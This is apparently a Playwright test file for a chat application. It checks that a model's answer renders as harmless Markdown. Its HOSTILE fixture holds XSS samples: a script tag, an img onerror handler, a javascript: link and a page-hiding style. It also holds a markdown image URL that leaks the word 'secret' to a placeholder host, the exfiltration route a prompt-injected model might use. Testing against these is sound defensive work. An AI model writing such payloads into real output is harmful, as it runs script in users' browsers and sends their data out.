import { findings } from "./fixtures/axe.ts";
import { answered, ask, conversation, prose, lastAnswer } from "./fixtures/person.ts";
import { addFile, chatWith, writeTinyModel } from "./fixtures/own-models.ts";
import { expect, test } from "./fixtures/test.ts";
import { t } from "./fixtures/words.ts";

/** What a model might write, by chance or because a document told it to. The guard of every spec fails if a request leaves. */
const HOSTILE = `# A heading

<script>document.title = "taken"</script> <img src="https://pictures.invalid/raw.png" onerror="document.title='taken'">

![a picture](https://pictures.invalid/pixel.png?words=secret) and [a link](https://links.invalid/page) and
[another](javascript:document.title='taken') and <style>body { display: none }</style>

| left | right |
|---|---|
| 1 | 2 |

\`\`\`js
const answer = 42;
\`\`\`

Euler: $e^{i\\pi} + 1 = 0$

A box: $\\boxed{x^2}$, bold: $\\pmb{y}$, and one that is broken: $\\frac{1$
`;

test("an answer is drawn as Markdown and can do nothing", async ({ cloister, page }) => {
  test.skip(cloister.face === "electron", "the system's file dialog cannot be driven");
  await addFile(page, writeTinyModel(cloister.folders, "Hostile", { says: [HOSTILE] }));
  await chatWith(page, "Hostile");
  await ask(page, "Hello");
  await answered(page);

  const answer = prose(lastAnswer(page));
  await expect(answer.getByRole("heading", { name: "A heading" })).toBeVisible();
  await expect(answer.getByRole("cell", { name: "2" })).toBeVisible();
  await expect(answer.locator(".hljs-keyword")).toHaveText("const");
  await expect(answer.locator(".katex")).toHaveCount(3);
  await expect(answer.locator(".md-formula").last()).toHaveText("\\frac{1");
  await expect(answer.locator("script, img, style, iframe, a[href]")).toHaveCount(0);
  await expect(answer).toContainText("<script>");
  await expect(page).toHaveTitle(/Cloister/);

  await answer.getByRole("button", { name: "a link" }).click();
  const dialog = page.getByRole("dialog");
  await expect(dialog).toContainText("https://links.invalid/page");
  expect(await findings(page, "the question before a link is opened")).toEqual([]);
  await dialog.getByRole("button", { name: t("chat.address.stay") }).click();
  await answer.getByRole("button", { name: "another" }).click();
  await expect(dialog.getByRole("button", { name: t("chat.address.open") })).toHaveCount(0);
  await dialog.getByRole("button", { name: t("chat.address.stay") }).click();
  await expect(conversation(page)).toBeVisible();
});
